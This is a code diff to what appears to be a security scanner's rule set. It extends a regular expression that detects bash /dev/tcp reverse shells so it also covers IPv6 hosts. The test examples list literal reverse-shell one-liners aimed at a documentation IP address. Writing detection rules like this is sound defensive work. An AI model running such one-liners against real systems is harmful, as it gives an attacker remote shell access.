@@ -19,9 +19,10 @@ export const reverseShellRules: Rule[] = [
     keywords: ["/dev/tcp/", "/dev/udp/"],
     // Host and port may be variables (`/dev/tcp/$host/$port`) when a shell's input and output are wired
     // to it (`sh -i >& …`, `… 0>&1`); a bare `exec 3<>/dev/tcp/$h/$p` is a port probe.
-    pattern: /\/dev\/(?:tcp|udp)\/[\w.$-]+\/\d+|\b(?:ba|z|da|k)?sh\s+-i\s*[<>]&?\s*\/dev\/(?:tcp|udp)\/[\w.${}-]+\/\$\{?\w+\}?|\/dev\/(?:tcp|udp)\/[\w.${}-]+\/\$\{?\w+\}?\s+0>&1/g,
+    // The host may be an IPv6 address (`::ffff:203.0.113.7`, an IPv4 address mapped into IPv6).
+    pattern: /\/dev\/(?:tcp|udp)\/[\w.:$-]+\/\d+|\b(?:ba|z|da|k)?sh\s+-i\s*[<>]&?\s*\/dev\/(?:tcp|udp)\/[\w.:${}-]+\/\$\{?\w+\}?|\/dev\/(?:tcp|udp)\/[\w.:${}-]+\/\$\{?\w+\}?\s+0>&1/g,
     examples: {
-      positive: ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "bash -i >& /dev/tcp/${H}/$P 0>&1"],
+      positive: ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "bash -i >& /dev/tcp/${H}/$P 0>&1", "bash -i >& /dev/tcp/::ffff:203.0.113.7/4444 0>&1"],
       negative: ["ls /dev/ | grep tty"],
     },
   },
